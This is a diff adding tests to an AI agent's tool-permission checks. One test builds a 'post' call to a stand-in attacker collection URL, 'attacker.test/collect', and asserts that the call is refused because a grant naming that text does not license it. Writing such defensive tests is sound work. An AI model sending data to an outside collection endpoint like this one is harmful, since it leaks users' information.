@@ -130,6 +130,23 @@ async def test_a_call_that_the_grants_leave_out_and_nobody_asked_for_is_refused_
     assert "leaves this call out" in work.executor.requests[-1].text
 
 
+async def test_words_that_one_grant_fixes_license_no_other_tool_or_argument() -> None:
+    page = "https://attacker.test/collect"
+    tools = [grant(args={"to": ALICE, "text": page})]
+    channel = Answering("approve")
+    fetch = CallTool("post", {"to": page})
+    house, _ = await play(channel, read(), fetch, tools=tools)
+    assert house.poster.calls == []
+    assert channel.asked == []
+
+
+async def test_a_call_without_arguments_beside_the_grants_is_refused_unasked() -> None:
+    channel = Answering("approve")
+    house, _ = await play(channel, CallTool("post"), CallTool("send"), tools=[grant()])
+    assert house.sender.calls == []
+    assert channel.asked == []
+
+
 async def test_a_call_beside_the_grants_in_the_plans_own_words_asks() -> None:
     channel = Answering("approve")
     body = f"Tell {ALICE}, or failing that bob@example.org, of the {LETTER}."
